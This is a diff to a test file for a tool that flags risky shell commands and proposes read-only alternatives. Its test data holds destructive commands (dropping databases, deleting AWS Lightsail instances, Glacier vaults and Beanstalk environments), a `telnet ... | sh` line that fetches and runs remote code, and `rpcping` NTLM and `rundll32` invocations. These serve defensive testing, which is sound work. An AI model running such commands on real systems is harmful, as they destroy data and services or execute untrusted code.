@@ -33,6 +33,33 @@ const IN_PLACE: readonly (readonly [string, string])[] = [
     "aws ssm get-parameter --name /prod/pw --with-decryption",
     "aws ssm get-parameter --name=/prod/pw",
   ],
+  ["heroku access:remove eve@a.test", "heroku access"],
+  ["choco uninstall git", "choco list"],
+  ["scoop uninstall git", "scoop list"],
+  ["logoff 3", "query session"],
+  ["pnputil -i -a C:\\a.inf", "pnputil /enum-drivers"],
+  ["drop schema web", "SHOW SCHEMAS;"],
+  ["mysql -u me -e DROP DATABASE web", "mysql -u me -e 'SHOW DATABASES'"],
+  [
+    "aws lightsail stop-instance --instance-name web",
+    "aws lightsail get-instance --instance-name web",
+  ],
+  [
+    "aws lightsail delete-instance --instance-name web",
+    "aws lightsail get-instance --instance-name web",
+  ],
+  [
+    "aws ecs update-service --service web --desired-count 0",
+    "aws ecs describe-services --services web",
+  ],
+  [
+    "aws glacier delete-vault --vault-name web",
+    "aws glacier describe-vault --vault-name web",
+  ],
+  [
+    "aws elasticbeanstalk terminate-environment --environment-name web",
+    "aws elasticbeanstalk describe-environments --environment-names web",
+  ],
   ["http -a u:p delete :9200/my-index", "http -a u:p GET :9200/my-index"],
   ["glab api -X DELETE projects/123", "glab api projects/123"],
   ["mc admin user disable store bob", "mc admin user list store"],
@@ -804,6 +831,17 @@ Deno.test("livesWith() keeps programs of one system from being proposed for anot
 Deno.test("assessCommand() proposes no download of what no downloader can reach", () => {
   const { safer_alternative } = assessCommand("telnet 203.0.113.7 443 | sh");
   assert.doesNotMatch(safer_alternative, /^curl/);
+});
+
+Deno.test("assessCommand() takes no address and no setting for a file whose checksum is asked for", () => {
+  for (
+    const command of [
+      "rpcping /s 10.0.0.35 /e 9997 /a connect /u NTLM",
+      "rundll32.exe =C:\\a.dll,b",
+    ]
+  ) {
+    assert.doesNotMatch(assessCommand(command).safer_alternative, /hashfile/);
+  }
 });
 
 Deno.test("assessCommand() shows look-alike letters in what it proposes", () => {
